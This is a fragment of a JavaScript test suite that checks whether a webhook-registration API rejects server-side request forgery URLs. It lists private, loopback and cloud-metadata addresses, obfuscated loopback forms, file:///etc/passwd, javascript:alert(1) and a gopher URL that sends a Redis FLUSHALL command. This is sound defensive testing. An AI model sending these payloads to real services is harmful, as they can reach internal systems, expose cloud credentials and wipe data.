      'http://172.16.5.4/hook',
      'http://192.168.1.1/hook',
      'http://100.64.0.1/hook',
      'http://169.254.169.254/latest/meta-data/',
      'http://localhost/hook',
      'http://LOCALHOST:9000/hook',
      'http://localhost./hook',
      'http://api.localhost/hook',
      'http://0.0.0.0/hook',
      'http://0/hook',
      'http://2130706433/hook',
      'http://0x7f000001/hook',
      'http://127.1/hook',
      'http://[::1]/hook',
      'http://[::ffff:127.0.0.1]/hook',
      'http://[::ffff:a00:1]/hook',
      'http://[fc00::1]/hook',
      'http://[fe80::1]/hook',
      'http://224.0.0.1/hook',
    ];
    // The machine's own name, when the hosts file points it at this machine, is as private as its address.
    const own = os.hostname();
    const ownAddress = await lookup(own).catch(() => undefined);
    if (ownAddress && /^(127\.|::1$)/.test(ownAddress.address)) targets.push(`http://${own}/hook`);
    for (const url of targets) {
      assertProblem(await send(target, 'POST', '/v1/webhook-endpoints', { headers: asBackend(), body: { url } }), 400, 'body.url', url);
    }
    for (const url of ['ftp://example.com/hook', 'file:///etc/passwd', 'javascript:alert(1)', 'gopher://127.0.0.1:6379/_FLUSHALL', 'http://user:pass@example.com/hook']) {
      assertProblem(await send(target, 'POST', '/v1/webhook-endpoints', { headers: asBackend(), body: { url } }), 400, 'body.url', url);
    }
    assert.equal(await registered(), before, 'none was registered');
  });

  test('no attack in this file got a 5xx', () => {
    assertNoServerErrors(target);
  });
});
